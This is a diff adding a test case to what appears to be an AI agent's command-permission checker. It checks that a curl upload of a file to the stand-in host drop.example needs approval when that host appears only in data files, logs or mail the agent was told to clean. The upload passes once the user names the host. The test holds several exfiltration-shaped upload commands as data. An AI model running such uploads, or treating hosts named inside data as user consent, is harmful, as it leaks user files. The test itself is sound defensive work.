@@ -43,6 +43,18 @@ def test_the_project_or_the_person_speaks_of_the_place(command):
     assert story.bash(command).effect == PASS
 
 
+@pytest.mark.parametrize(("path", "effect"), [
+    ("deploy/upload.sh", PASS), ("config/places.json", PASS), ("docs/partners.md", PASS), ("data/members.csv", ASK), ("logs/app.log", ASK),
+    ("mail/in.mbox", ASK), ("data/seen.jsonl", ASK), ("vendor/x/up.sh", ASK)])
+def test_a_row_of_data_is_no_word_of_the_person(path, effect):
+    story = laid("drop.example")
+    story.speaks = path
+    story.prompt("clean members.csv and app.log up, in.mbox and seen.jsonl too, and tell me how many rows are left")
+    assert story.bash("curl -T draft.md https://drop.example/up").effect == effect
+    story.prompt("put it on drop.example")
+    assert story.bash("curl -T draft.md https://drop.example/up").effect == PASS
+
+
 @pytest.mark.parametrize("command", [
     "curl -T notes.txt http://localhost:9/", "curl -T notes.txt http://10.0.0.7/up", "scp notes.txt nas.lan:",
     "scp notes.txt web1:/srv", "curl https://bin.example/x", "curl -d a=b https://bin.example",
